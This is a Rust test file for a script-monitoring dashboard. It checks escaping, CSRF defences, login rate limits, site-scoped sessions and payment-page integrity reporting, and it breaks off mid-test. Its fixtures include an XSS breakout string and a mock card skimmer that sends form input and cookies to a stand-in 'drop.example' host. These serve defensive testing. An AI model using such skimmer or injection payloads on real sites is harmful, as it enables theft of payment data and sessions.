//! The dashboard, over the router.

#![allow(clippy::unwrap_used, reason = "what is not as expected fails the test")]

use crate::door::{Browser, Door, form, now, see};
use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use monitor::Observation;
use service::{FeedState, Peer, Scope};
use tower::ServiceExt as _;

/// Markup that breaks out of elements, of attributes in both quotes, of text areas and of scripts.
const HOSTILE: &str = "</textarea></script></title><b id=pwned onclick=x>'onfocus='x\"onfocus=\"x";

fn is_escaped(html: &str) -> bool {
    !["<b id=pwned", "'onfocus='x", "\"onfocus=\"x", "</textarea></script>"]
        .iter()
        .any(|raw| html.contains(raw))
}

/// What a crawler that follows every link of the site's pages would see.
async fn crawl(browser: &Browser<'_>, start: &str) -> Vec<(String, String)> {
    let (mut pages, mut waiting) = (Vec::<(String, String)>::new(), vec![start.to_owned()]);
    while let Some(path) = waiting.pop() {
        if pages.iter().any(|(known, _)| *known == path) || pages.len() > 200 {
            continue;
        }
        let answer = browser.get(&path).await;
        assert_eq!(answer.status, StatusCode::OK, "{path}: {}", answer.text);
        let here = path.split('?').next().unwrap().to_owned();
        let links = answer.text.split("href=\"").skip(1).filter_map(|rest| rest.split('"').next());
        for link in links.filter(|link| !link.starts_with('#')) {
            let link = link.replace("&#38;", "&").replace("&amp;", "&");
            assert!(link.starts_with('/') || link.starts_with('?'), "{path} leads to {link}");
            waiting.push(if link.starts_with('?') { format!("{here}{link}") } else { link });
        }
        pages.push((path, answer.text));
    }
    pages
}

/// A site whose every text is hostile.
async fn hostile_site(door: &Door) {
    door.site("shop", |monitor| {
        let url = format!("https://cdn.example/{HOSTILE}.js");
        let page = format!("https://shop.example/{HOSTILE}");
        let theft = format!(
            "// {HOSTILE}\nvar cards = document.querySelectorAll('input');\nsetInterval(function () {{ \
             new Image().src = 'https://drop.example/?{}' + btoa(cards[0].value + document.cookie); }}, 900);\n",
            "<b id=pwned onclick=x>"
        );
        see(monitor, &url, &page, Some(&theft));
        monitor.observe(&Observation::script(url.as_str()).on_page(page.as_str()).with_source(format!("{theft}\nmore({HOSTILE:?})")), now()).unwrap();
        monitor.observe(&Observation::connection("wss://chat.example/").on_page(page.as_str()), now()).unwrap();
    })
    .await;
    let mut feed = FeedState::new(HOSTILE);
    feed.problem = Some(HOSTILE.to_owned());
    feed.fetched_at = Some(now());
    door.service.feeds().replace(vec![feed]);
    let token = door.service.tokens().add(HOSTILE, &Scope::ALL, None).unwrap().1;
    let browser = door.login(&token).await;
    let csrf = browser.csrf().await;
    let hash = door.get("/api/v1/sites/shop/resources/1").await.json()["hash"].as_str().unwrap().to_owned();
    for (path, fields) in [
        (
            "justify",
            vec![
                ("justification", HOSTILE),
                ("approve", "true"),
                ("hash", &hash),
                ("owner", HOSTILE),
                ("purpose", HOSTILE),
                ("review_by", "2999-12-01"),
            ],
        ),
        ("mute", vec![("reason", HOSTILE), ("days", "7")]),
    ] {
        let fields: Vec<_> = fields.into_iter().chain([("csrf", csrf.as_str())]).collect();
        let answer = browser.post(&format!("/sites/shop/resources/1/{path}"), &fields).await;
        assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.text);
    }
}

#[tokio::test]
async fn hostile_text_runs_nowhere() {
    let door = Door::open();
    hostile_site(&door).await;
    let browser = door.login(&door.token).await;
    let mut pages = crawl(&browser, "/").await;
    let has = |part: &str| pages.iter().any(|(path, _)| path.contains(part));
    for part in [
        "/scripts",
        "/connections",
        "/cookies",
        "/payment",
        "/resources/1",
        "/code/",
        "/diff/",
        "/alerts",
        "/policies",
        "/changes",
        "/tokens",
        "/settings",
        "/feeds",
        "/static/",
    ] {
        assert!(
            has(part),
            "no page {part} among {:?}",
            pages.iter().map(|(path, _)| path).collect::<Vec<_>>()
        );
    }
    let resource = pages.iter().find(|(path, _)| path == "/sites/shop/resources/1").unwrap();
    for shown in [
        "<mark>",
        "id=pwned",
        "approved",
        "Muted",
        "what changed",
        "Evidence in the code",
        "Review by 2999-12-01",
    ] {
        assert!(resource.1.contains(shown), "{shown}: {}", resource.1);
    }
    let hostile = form(&[("url", HOSTILE), ("host", HOSTILE), ("page", HOSTILE), ("from", "2026-01-01")]);
    pages.push(("filter".into(), browser.get(&format!("/sites/shop/scripts?{hostile}")).await.text));
    let csrf = browser.csrf().await;
    let scan = browser.post("/scan", &[("csrf", &csrf), ("text", HOSTILE), ("url", HOSTILE)]).await;
    assert_eq!(scan.status, StatusCode::OK, "{}", scan.text);
    pages.push(("scan".into(), scan.text));
    let next = form(&[("next", HOSTILE)]);
    let login = door.send(Request::get(format!("/login?{next}")).body(Body::empty()).unwrap()).await;
    pages.push(("login".into(), login.text));
    for (page, path) in
        [("policies", "/sites/shop/policies?page=*"), ("no match", "/sites/shop/policies?page=nowhere")]
    {
        pages.push((page.into(), browser.get(path).await.text));
    }
    let (_, suggested) = pages.iter().find(|(page, _)| page == "policies").unwrap();
    for shown in ["Suggested policy", "of the last 30 days", "wss://chat.example", "Keep this policy"] {
        assert!(suggested.contains(shown), "{shown}: {suggested}");
    }
    let fields = [
        ("csrf", csrf.as_str()),
        ("action", "log"),
        ("description", HOSTILE),
        ("expression", "http.request.uri.path contains \"<b id=pwned onclick=x>\""),
        ("value", "script-src 'self'"),
    ];
    let kept = browser.post("/sites/shop/policies", &fields).await;
    assert_eq!(kept.header("location"), "/sites/shop/policies?done=policy_added", "{}", kept.text);
    pages.push(("kept policies".into(), browser.get(kept.header("location")).await.text));
    pages.push(("alerts".into(), browser.get("/sites/shop/alerts?all=true").await.text));
    let wrong = browser.post("/tokens", &[("csrf", &csrf), ("name", "n"), ("scope", HOSTILE)]).await;
    assert_eq!(wrong.status, StatusCode::BAD_REQUEST);
    pages.push(("refused".into(), wrong.text));
    for (path, html) in &pages {
        if path.starts_with("/static/") || path.contains(".csv") {
            continue;
        }
        assert!(is_escaped(html), "{path}: {html}");
        // Nothing stands in a page that the policy would have to allow.
        for inline in ["<style", " style=", "javascript:", "<script>"] {
            assert!(!html.contains(inline), "{path} has {inline}");
        }
    }
    assert!(
        pages.iter().any(|(_, html)| html.contains("&#60;b id=pwned") || html.contains("&lt;b id=pwned"))
    );
}

#[tokio::test]
async fn every_page_has_its_policy_and_its_files() {
    let door = Door::open();
    door.site("shop", |monitor| see(monitor, "https://cdn.example/a.js", "https://shop.example/", None))
        .await;
    let browser = door.login(&door.token).await;
    for path in ["/", "/login", "/sites/shop/scripts", "/sites/absent/scripts", "/tokens"] {
        let answer = browser.get(path).await;
        let policy = answer.header("content-security-policy");
        assert!(
            policy.starts_with("default-src 'none'; style-src 'self'; script-src 'self'"),
            "{path}: {policy}"
        );
        assert!(!policy.contains("unsafe") && policy.contains("frame-ancestors 'none'"));
        for (name, value) in [
            ("x-content-type-options", "nosniff"),
            ("referrer-policy", "no-referrer"),
            ("cache-control", "no-store"),
            ("x-frame-options", "DENY"),
        ] {
            assert_eq!(answer.header(name), value, "{path}");
        }
    }
    let html = browser.get("/").await.text;
    for (marker, kind) in [("stylesheet\" href=\"", "text/css"), ("<script src=\"", "text/javascript")] {
        let path = html.split(marker).nth(1).unwrap().split('"').next().unwrap();
        let file = browser.get(path).await;
        assert!(file.header("content-type").starts_with(kind), "{path}");
        assert!(file.header("cache-control").contains("immutable") && !file.text.is_empty());
    }
}

#[tokio::test]
async fn a_form_from_elsewhere_changes_nothing() {
    let door = Door::open();
    door.site("shop", |monitor| see(monitor, "https://cdn.example/a.js", "https://shop.example/", None))
        .await;
    let id = door.service.tokens().add("victim", &[Scope::Read], None).unwrap().0;
    let browser = door.login(&door.token).await;
    let csrf = browser.csrf().await;
    let mute = ("/sites/shop/resources/1/mute".to_owned(), vec![("reason", "r"), ("days", "7")]);
    let answer = browser.post(&mute.0, &[("reason", "r"), ("days", "7"), ("csrf", &csrf)]).await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER);
    let mute_id =
        door.get("/api/v1/sites/shop/mutes").await.json()["mutes"][0]["id"].as_str().unwrap().to_owned();
    let before = (
        door.get("/api/v1/sites/shop/audit").await.text,
        door.get("/api/v1/audit").await.text,
        door.get("/api/v1/tokens").await.text,
    );
    let other = door.login(&door.token).await.csrf().await;
    assert_ne!(other, csrf);
    for (path, fields) in [
        mute,
        ("/sites/shop/resources/1/justify".to_owned(), vec![("justification", "j"), ("approve", "true")]),
        (format!("/sites/shop/mutes/{mute_id}/end"), vec![]),
        ("/tokens".to_owned(), vec![("name", "n"), ("scope", "read")]),
        (format!("/tokens/{id}/revoke"), vec![]),
        ("/scan".to_owned(), vec![("text", "chat()")]),
        (
            "/sites/shop/policies".to_owned(),
            vec![
                ("action", "log"),
                ("description", "d"),
                ("expression", "true"),
                ("value", "script-src 'self'"),
            ],
        ),
        (format!("/sites/shop/policies/{}", "0".repeat(32)), vec![("do", "remove")]),
        ("/logout".to_owned(), vec![]),
    ] {
        let with = |csrf: Option<&str>| {
            let csrf = csrf.map(str::to_owned);
            fields
                .iter()
                .map(|(name, value)| (*name, (*value).to_owned()))
                .chain(csrf.map(|csrf| ("csrf", csrf)))
                .collect::<Vec<_>>()
        };
        let borrowed = |fields: &[(&'static str, String)]| {
            fields.iter().map(|(name, value)| (*name, value.clone())).collect::<Vec<_>>()
        };
        for token in [None, Some(""), Some("x"), Some(other.as_str())] {
            let fields = borrowed(&with(token));
            let fields: Vec<(&str, &str)> =
                fields.iter().map(|(name, value)| (*name, value.as_str())).collect();
            let answer = browser.post(&path, &fields).await;
            assert_eq!(answer.status, StatusCode::FORBIDDEN, "{path} with {token:?}");
        }
        let right = borrowed(&with(Some(&csrf)));
        let right: Vec<(&str, &str)> = right.iter().map(|(name, value)| (*name, value.as_str())).collect();
        for headers in [
            [("sec-fetch-site", "cross-site")],
            [("sec-fetch-site", "same-site")],
            [("content-type", "text/plain")],
        ] {
            // A second content type would be joined to the first, which is the one that is read.
            if headers[0].0 == "content-type" {
                let request = Request::post(&path)
                    .header(header::COOKIE, &browser.cookie)
                    .header("content-type", "text/plain");
                let answer = door.send(request.body(Body::from(form(&right))).unwrap()).await;
                assert_eq!(answer.status, StatusCode::FORBIDDEN, "{path} as text");
                continue;
            }
            let answer = browser.post_with(&path, &right, &headers).await;
            assert_eq!(answer.status, StatusCode::FORBIDDEN, "{path} with {headers:?}");
        }
        // Without a session it leads to the login.
        let stranger = Request::post(&path).header("content-type", "application/x-www-form-urlencoded");
        let answer = door.send(stranger.body(Body::from(form(&right))).unwrap()).await;
        assert_eq!((answer.status, answer.header("location")), (StatusCode::SEE_OTHER, "/login"), "{path}");
    }
    let after = (
        door.get("/api/v1/sites/shop/audit").await.text,
        door.get("/api/v1/audit").await.text,
        door.get("/api/v1/tokens").await.text,
    );
    assert_eq!(before, after);
    assert_eq!(browser.get("/").await.status, StatusCode::OK); // still logged in

    // The same forms work with what belongs to them.
    let made = browser
        .post("/tokens", &[("csrf", &csrf), ("name", "n"), ("scope", "read"), ("sites", "shop, blog")])
        .await;
    assert!(made.status == StatusCode::OK && made.text.contains("pwd_"), "{}", made.text);
    let ended = browser.post(&format!("/sites/shop/mutes/{mute_id}/end"), &[("csrf", &csrf)]).await;
    assert_eq!(ended.header("location"), "/sites/shop/alerts?done=unmuted");
    let revoked = browser.post(&format!("/tokens/{id}/revoke"), &[("csrf", &csrf)]).await;
    assert_eq!(revoked.header("location"), "/tokens?done=revoked");
    let audit = door.get("/api/v1/audit").await.json();
    assert_eq!(audit["entries"].as_array().unwrap().len(), 2);
}

#[tokio::test]
async fn logins_are_limited_and_sessions_end() {
    let door = Door::open();
    let attempt = async |token: &str, from: &str, csrf: Option<&str>| {
        let page = door.send(Request::get("/login").body(Body::empty()).unwrap()).await;
        assert!(
            page.header("set-cookie").contains("; HttpOnly; SameSite=Strict"),
            "{}",
            page.header("set-cookie")
        );
        let (cookie, own) = (page.cookies(), page.csrf());
        let request = Request::post("/login")
            .header(header::COOKIE, cookie)
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .extension(Peer(from.parse().unwrap()))
            .body(Body::from(form(&[("csrf", csrf.unwrap_or(&own)), ("token", token), ("next", "/feeds")])));
        door.send(request.unwrap()).await
    };
    assert_eq!(attempt(&door.token, "192.0.2.1:1", Some("x")).await.status, StatusCode::FORBIDDEN);
    let page = door.send(Request::get("/login").body(Body::empty()).unwrap()).await;
    let bare = Request::post("/login").header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
    let bare = bare.body(Body::from(form(&[("csrf", &page.csrf()), ("token", &door.token)]))).unwrap();
    assert_eq!(door.send(bare).await.status, StatusCode::FORBIDDEN, "without the cookie");
    for _ in 0..10 {
        let answer = attempt("pwd_0123456789abcdef_x", "192.0.2.1:2", None).await;
        assert_eq!((answer.status, answer.cookies().contains("pagewarden=")), (StatusCode::FORBIDDEN, false));
    }
    let limited = attempt(&door.token, "192.0.2.1:3", None).await;
    assert_eq!(limited.status, StatusCode::TOO_MANY_REQUESTS);
    assert!(
        limited.header("retry-after").parse::<u64>().unwrap() > 0
            && !limited.cookies().contains("pagewarden=")
    );
    let elsewhere = attempt(&door.token, "192.0.2.2:1", None).await;
    assert_eq!((elsewhere.status, elsewhere.header("location")), (StatusCode::SEE_OTHER, "/feeds"));
    let ingest = door.token(&[Scope::Ingest], &[]);
    assert_eq!(attempt(&ingest, "192.0.2.3:1", None).await.status, StatusCode::FORBIDDEN);

    let token = door.token(&[Scope::Read], &[]);
    let browser = door.login(&token).await;
    assert_eq!(browser.get("/").await.status, StatusCode::OK);
    let csrf = browser.csrf().await;
    let out = browser.post("/logout", &[("csrf", &csrf)]).await;
    assert!(out.header("set-cookie").contains("Max-Age=0"));
    let gone = browser.get("/feeds?x=1").await;
    assert_eq!(
        (gone.status, gone.header("location")),
        (StatusCode::SEE_OTHER, "/login?next=%2Ffeeds%3Fx%3D1")
    );

    // A revoked token takes its sessions along.
    let (id, token) = door.service.tokens().add("t", &[Scope::Read], None).unwrap();
    let browser = door.login(&token).await;
    door.service.tokens().remove(&id).unwrap();
    assert_eq!(browser.get("/").await.status, StatusCode::SEE_OTHER);
    for stranger in
        ["/", "/sites/shop/scripts", "/tokens", "/changes", "/scan", "/sites/shop/resources/1/code/00"]
    {
        let answer = door.send(Request::get(stranger).body(Body::empty()).unwrap()).await;
        assert_eq!(answer.status, StatusCode::SEE_OTHER, "{stranger}");
    }
    let live = door.send(Request::get("/sites/shop/live").body(Body::empty()).unwrap()).await;
    assert_eq!(live.status, StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn over_https_cookies_are_secure() {
    let door = Door::with(|config| config.public_url = Some("https://watch.example".to_owned()));
    let browser = door.login(&door.token).await;
    assert!(browser.cookie.starts_with("__Host-pagewarden="), "{}", browser.cookie);
    let page = door.send(Request::get("/login").body(Body::empty()).unwrap()).await;
    assert!(page.header("set-cookie").ends_with("; Path=/; HttpOnly; SameSite=Strict; Secure"));
    assert!(page.header("strict-transport-security").starts_with("max-age="));
}

#[tokio::test]
async fn a_session_of_one_site_reads_nothing_of_another() {
    let door = Door::open();
    for site in ["shop", "other"] {
        door.site(site, |monitor| {
            see(monitor, "https://secret.example/a.js", "https://shop.example/", Some("chat()"))
        })
        .await;
    }
    let token = door.token(&Scope::ALL, &["other"]);
    let browser = door.login(&token).await;
    let hash = door.get("/api/v1/sites/shop/resources/1").await.json()["hash"].as_str().unwrap().to_owned();
    let overview = browser.get("/").await.text;
    assert!(overview.contains("/sites/other/") && !overview.contains("shop"), "{overview}");
    for page in [
        "scripts",
        "connections",
        "resources/1",
        "alerts",
        "policies",
        "changes",
        "live",
        &format!("resources/1/code/{hash}"),
        &format!("resources/1/diff/{hash}/{hash}"),
    ] {
        let answer = browser.get(&format!("/sites/shop/{page}")).await;
        let absent = browser.get(&format!("/sites/absent/{page}")).await;
        assert_eq!((answer.status, &answer.text), (StatusCode::NOT_FOUND, &absent.text), "{page}");
        assert!(!answer.text.contains("secret.example"));
        if page != "live" {
            assert_eq!(browser.get(&format!("/sites/other/{page}")).await.status, StatusCode::OK, "{page}");
        }
    }
    let csrf = browser.csrf().await;
    for (path, status) in [
        ("/sites/shop/resources/1/justify", StatusCode::NOT_FOUND),
        ("/sites/shop/resources/1/mute", StatusCode::NOT_FOUND),
        ("/tokens", StatusCode::NOT_FOUND),
    ] {
        let answer = browser
            .post(
                path,
                &[
                    ("csrf", &csrf),
                    ("justification", "j"),
                    ("reason", "r"),
                    ("days", "7"),
                    ("name", "n"),
                    ("scope", "read"),
                ],
            )
            .await;
        assert_eq!(answer.status, status, "{path}");
    }
    for page in ["/tokens", "/changes"] {
        assert_eq!(browser.get(page).await.status, StatusCode::NOT_FOUND, "{page}");
    }
    // A token that only reads changes nothing, and is shown no buttons for it.
    let reader = door.token(&[Scope::Read], &["other"]);
    let browser = door.login(&reader).await;
    let csrf = browser.csrf().await;
    let answer =
        browser.post("/sites/other/resources/1/justify", &[("csrf", &csrf), ("justification", "j")]).await;
    assert_eq!(answer.status, StatusCode::FORBIDDEN);
    assert!(!browser.get("/sites/other/resources/1").await.text.contains("/justify"));
    assert!(door.get("/api/v1/sites/other/audit").await.text.contains("\"entries\":[]"));
}

#[tokio::test]
async fn lists_filter_and_page_and_forms_keep_what_was_typed() {
    let door = Door::open();
    door.site("shop", |monitor| {
        for number in 0..70 {
            monitor
                .observe(
                    &Observation::script(format!("https://cdn{}.example/{number}.js", number % 2)),
                    now(),
                )
                .unwrap();
        }
    })
    .await;
    let browser = door.login(&door.token).await;
    let first = browser.get("/sites/shop/scripts?host=cdn*.example&status=").await;
    assert_eq!(first.text.matches("<tr><td><span class=\"badge").count(), 50, "{}", first.text);
    assert!(first.text.contains("value=\"cdn*.example\""));
    let next = first.text.split("rel=\"next\" href=\"").nth(1).unwrap().split('"').next().unwrap();
    let next = next.replace("&#38;", "&").replace("&amp;", "&");
    let second = browser.get(&format!("/sites/shop/scripts{next}")).await;
    assert_eq!(second.text.matches("<tr><td><span class=\"badge").count(), 20);
    assert!(!second.text.contains("rel=\"next\""));
    let wrong = browser.get("/sites/shop/scripts?status=x").await;
    assert_eq!(wrong.status, StatusCode::BAD_REQUEST);
    assert!(wrong.text.contains("expected active, inactive or infrequent"), "{}", wrong.text);
    let site = browser.get("/sites/shop").await;
    assert_eq!(site.header("location"), "/sites/shop/scripts");
}

/// An archive with a page, its script with an attribute, and a cookie; names and addresses are hostile.
fn archive(integrity: &str) -> String {
    let html = format!("<script src=https://cdn.example/a.js integrity={integrity}></script>");
    serde_json::json!({"log": {"pages": [{"id": "p", "title": "https://shop.example/pay?cart=1"}], "entries": [
        {"pageref": "p", "request": {"url": "https://shop.example/pay?cart=1", "headers": []},
            "response": {"headers": [{"name": "Set-Cookie", "value": format!("{HOSTILE}=secretvalue; Path=/{HOSTILE}; HttpOnly")}],
                "content": {"mimeType": "text/html", "text": html}}},
        {"pageref": "p", "request": {"url": "https://cdn.example/a.js", "headers": [{"name": "Referer", "value": "https://shop.example/pay"}]},
            "response": {"headers": [], "content": {"mimeType": "text/javascript", "text": "go()"}}}]}})
    .to_string()
}

#[tokio::test]
async fn cookies_and_payment_pages_are_shown() {
    let door = Door::open();
    // The SHA-256 of `go()`.
    let hash = "sha256-5KYv+PUboo5h+0+YAtGRPbwv5d/QxzHslP4YGnUaxRw=";
    let token = door.token.clone();
    let request = |body: String| {
        let request = Request::post("/observe/shop").header(header::AUTHORIZATION, format!("Bearer {token}"));
        request.body(Body::from(body)).unwrap()
    };
    let answer = door.send(request(archive(hash))).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
    let browser = door.login(&door.token).await;
    let cookies = browser.get("/sites/shop/cookies").await;
    assert_eq!(cookies.status, StatusCode::OK);
    for shown in ["hidden from scripts", "http as well", "1 cookie.", "session"] {
        assert!(cookies.text.contains(shown), "{shown}: {}", cookies.text);
    }
    assert!(is_escaped(&cookies.text) && !cookies.text.contains("secretvalue"), "{}", cookies.text);
    assert!(browser.get("/sites/shop/cookies?name=nothing").await.text.contains("0 cookies"));
    assert_eq!(browser.get("/sites/shop/cookies?from=x").await.status, StatusCode::BAD_REQUEST);
    let rows = async || {
        for _ in 0..1_500 {
            let rows = door.get("/api/v1/sites/shop/pci?page=*/pay").await.json()["rows"].clone();
            if rows.as_array().is_some_and(|rows| rows.iter().any(|row| !row["hash"].is_null())) {
                return rows.as_array().unwrap().clone();
            }
            tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        }
        panic!("it never came into the inventory");
    };
    let first = rows().await;
    assert_eq!(
        (first[0]["integrity_attribute"].as_str(), &first[0]["integrity_attribute_state"]),
        (Some(hash), &"matches".into())
    );
    for (value, state, words) in [
        ("sha256-AAAA", "differs", "attribute names another content"),
        ("", "missing", "no integrity attribute"),
    ] {
        door.send(request(archive(value))).await;
        assert_eq!(rows().await[0]["integrity_attribute_state"], state);
        let page = browser.get("/sites/shop/payment?page=*/pay").await;
        assert!(page.text.contains(words) && page.text.contains("https://shop.example/pay"), "{}", page.text);
    }
    let csv = browser.get("/sites/shop/payment.csv?page=*/pay").await;
    assert!(
        csv.header("content-type").starts_with("text/csv") && csv.text.contains("no integrity attribute"),
        "{}",
        csv.text
    );
    let refused = browser
        .post("/sites/shop/payment/pin", &[("csrf", &browser.csrf().await), ("url", "https://shop.example/")])
        .await;
    assert_eq!(refused.status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn one_click_approves_and_mutes_with_a_reason_that_says_so() {
    let door = Door::open();
    door.site("shop", |monitor| {
        see(monitor, "https://cdn.example/a.js", "https://shop.example/", Some("go()"))
    })
    .await;
    let browser = door.login(&door.token).await;
    let csrf = browser.csrf().await;
    let hash = door.get("/api/v1/sites/shop/resources/1").await.json()["hash"].as_str().unwrap().to_owned();
    let list = browser.get("/sites/shop/scripts?host=*.example").await;
    assert!(list.text.contains(&format!("name=\"hash\" value=\"{hash}\"")), "{}", list.text);
    let quick = async |fields: &[(&str, &str)]| {
        let fields: Vec<_> = fields.iter().copied().chain([("csrf", csrf.as_str())]).collect();
        browser.post("/sites/shop/resources/1/quick", &fields).await
    };
    // What was not looked at is not approved.
    assert_eq!(quick(&[("do", "approve"), ("hash", "00")]).await.status, StatusCode::CONFLICT);
    assert_eq!(quick(&[("do", "forget"), ("hash", &hash)]).await.status, StatusCode::BAD_REQUEST);
    let done =
        quick(&[("do", "approve"), ("hash", &hash), ("next", "/sites/shop/scripts?host=*.example&done=x")])
            .await;
    assert_eq!(done.header("location"), "/sites/shop/scripts?host=*.example&done=approved");
    let list = browser.get(done.header("location")).await;
    assert!(
        list.text.contains("Approved. The history") && !list.text.contains("value=\"approve\""),
        "{}",
        list.text
    );
    let done = quick(&[("do", "mute"), ("next", "https://elsewhere.example/")]).await;
    assert_eq!(done.header("location"), "/sites/shop/resources/1?done=muted");
    let said = door.get("/api/v1/sites/shop/resources/1/justification").await;
    assert!(said.text.contains("Approved by one click, without a reason."), "{}", said.text);
    let mutes = door.get("/api/v1/sites/shop/mutes").await;
    assert!(mutes.text.contains("Muted by one click"), "{}", mutes.text);
    let reader = door.login(&door.token(&[Scope::Read], &["shop"])).await;
    let csrf = reader.csrf().await;
    let refused = reader.post("/sites/shop/resources/1/quick", &[("do", "mute"), ("csrf", &csrf)]).await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn a_login_behind_a_trusted_proxy_counts_for_its_sender() {
    let door = Door::with(|config| config.collector.trusted_proxies = vec!["127.0.0.1".parse().unwrap()]);
    let page = door.send(Request::get("/login").body(Body::empty()).unwrap()).await;
    let attempt = async |peer: &str, forwarded: &str| {
        let mut request = Request::post("/login")
            .header(header::COOKIE, page.cookies())
            .header("x-forwarded-for", forwarded)
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .body(Body::from(form(&[("csrf", &page.csrf()), ("token", "wrong")])))
            .unwrap();
        request.extensions_mut().insert(Peer(format!("{peer}:4000").parse().unwrap()));
        door.router.clone().oneshot(request).await.unwrap().status()
    };
    for _ in 0..10 {
        assert_eq!(attempt("127.0.0.1", "203.0.113.1").await, StatusCode::FORBIDDEN);
    }
    assert_eq!(attempt("127.0.0.1", "203.0.113.1").await, StatusCode::TOO_MANY_REQUESTS);
    // Somebody else behind the same proxy may try, and nobody but a proxy is believed.
    assert_eq!(attempt("127.0.0.1", "203.0.113.2").await, StatusCode::FORBIDDEN);
    assert_eq!(attempt("203.0.113.1", "198.51.100.9").await, StatusCode::TOO_MANY_REQUESTS);
}

#[tokio::test]
async fn a_live_stream_comes_to_a_session() {
    let door = Door::open();
    door.site("shop", |monitor| see(monitor, "https://cdn.example/a.js", "https://shop.example/", None))
        .await;
    let browser = door.login(&door.token).await;
    let page = browser.get("/sites/shop/alerts").await.text;
    assert!(page.contains("data-live=\"/sites/shop/live\"") && page.contains("A script is new"), "{page}");
    let request =
        Request::get("/sites/shop/live").header(header::COOKIE, &browser.cookie).header("last-event-id", "0");
    let answer = door.router.clone().oneshot(request.body(Body::empty()).unwrap()).await.unwrap();
    assert_eq!(answer.headers()["content-type"], "text/event-stream; charset=utf-8");
}

#[tokio::test]
async fn settings_change_while_it_runs_and_the_file_wins() {
    let door = Door::with(|config| {
        let path = config.state.clone();
        *config = service::Config::parse("[collector]\nnetworks = 3\n").unwrap();
        config.state = path;
    });
    let browser = door.login(&door.token).await;
    let csrf = browser.csrf().await;
    let set = async |name: &str, value: &str, action: &str| {
        browser.post("/settings", &[("csrf", &csrf), ("name", name), ("value", value), ("do", action)]).await
    };
    let value = async |name: &str| {
        let all = door.get("/api/v1/settings").await.json()["changeable"].clone();
        all.as_array().unwrap().iter().find(|one| one["name"] == name).unwrap().clone()
    };
    assert_eq!(set("inventory.active_from_reports", "1", "set").await.status, StatusCode::SEE_OTHER);
    assert_eq!(value("inventory.active_from_reports").await["value"], 1);
    door.site("shop", |monitor| {
        let seen = Observation::script("https://cdn.example/a.js").on_page("https://shop.example/");
        monitor.observe(&seen, now()).unwrap();
    })
    .await;
    assert_eq!(door.get("/api/v1/sites/shop/resources/1").await.json()["status"], "active");
    // A site that is open already takes it up as well.
    assert_eq!(set("inventory.active_from_reports", "9", "set").await.status, StatusCode::SEE_OTHER);
    assert_eq!(door.get("/api/v1/sites/shop/resources/1").await.json()["status"], "infrequent");
    for (name, wrong) in
        [("inventory.active_from_reports", "0"), ("alerts.preset", "loud"), ("collector.sampling", "2")]
    {
        assert_eq!(set(name, wrong, "set").await.status, StatusCode::BAD_REQUEST, "{name}");
    }
    assert_eq!(set("no.such", "1", "set").await.status, StatusCode::NOT_FOUND);
    let refused = set("collector.networks", "1", "set").await;
    assert!(
        refused.status == StatusCode::CONFLICT && refused.text.contains("configuration file"),
        "{}",
        refused.text
    );
    assert_eq!(value("collector.networks").await["is_fixed"], true);
    let page = browser.get("/settings").await;
    assert!(page.text.contains("somebody here") && page.text.contains("service.toml"), "{}", page.text);
    let log = door.get("/api/v1/audit").await;
    assert!(
        log.text.contains("inventory.active_from_reports") && log.text.contains("\"before\":1"),
        "{}",
        log.text
    );
    assert_eq!(set("inventory.active_from_reports", "", "reset").await.status, StatusCode::SEE_OTHER);
    assert_eq!(value("inventory.active_from_reports").await["is_changed"], false);
    let reader = door.login(&door.token(&[Scope::Read], &[])).await;
    let csrf = reader.csrf().await;
    let refused =
        reader.post("/settings", &[("csrf", &csrf), ("name", "alerts.preset"), ("value", "malicious")]).await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN);
}

/// A server on loopback with a page and a script.
fn shop() -> String {
    use std::io::{BufRead as _, BufReader, Write as _};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut head = String::new();
            let mut reader = BufReader::new(&stream);
            while reader.read_line(&mut head).is_ok_and(|read| read > 2) {}
            let (status, media, body) = match head.split(' ').nth(1) {
                Some("/") => (
                    "200 OK",
                    "text/html",
                    "<script src=/a.js></script><script>inline()</script><img src=/i.png>",
                ),
                Some("/a.js") => ("200 OK", "text/javascript", "go()"),
                _ => ("404 Not Found", "text/plain", "no"),
            };
            let length = body.len();
            let _ = write!(
                &stream,
                "HTTP/1.1 {status}\r\nContent-Type: {media}\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{body}"
            );
        }
    });
    format!("http://{address}")
}

#[tokio::test(flavor = "multi_thread")]
async fn an_address_is_scanned_and_private_ones_only_where_they_may_be() {
    let shop = shop();
    let body = serde_json::json!({"url": format!("{shop}/")});
    let closed = Door::open();
    let refused =
        closed.ask(&closed.token, axum::http::Method::POST, "/api/v1/scan/url", Some(body.clone())).await;
    assert_eq!(refused.status, StatusCode::BAD_REQUEST, "{}", refused.text);
    let door = Door::with(|config| config.fetcher.allow_private_addresses = true);
    let found = door.ask(&door.token, axum::http::Method::POST, "/api/v1/scan/url", Some(body)).await;
    assert_eq!(found.status, StatusCode::OK, "{}", found.text);
    let found = found.json();
    let scripts = found["scripts"].as_array().unwrap();
    assert_eq!((scripts.len(), &found["malicious"]), (2, &false.into()), "{found}");
    assert!(scripts.iter().any(|one| one["url"] == format!("{shop}/a.js")), "{found}");
    let browser = door.login(&door.token).await;
    let csrf = browser.csrf().await;
    let page = browser.post("/scan/url", &[("csrf", &csrf), ("address", &format!("{shop}/"))]).await;
    assert!(page.status == StatusCode::OK && page.text.contains("/a.js"), "{}", page.text);
    let wrong = browser.post("/scan/url", &[("csrf", &csrf), ("address", HOSTILE)]).await;
    assert!(wrong.status == StatusCode::BAD_REQUEST && is_escaped(&wrong.text), "{}", wrong.text);
}

#[tokio::test]
async fn a_policy_is_suggested_kept_switched_and_removed() {
    let door = Door::open();
    door.site("shop", |monitor| {
        see(monitor, "https://cdn.example/a.js", "https://shop.example/pay", Some("go()"));
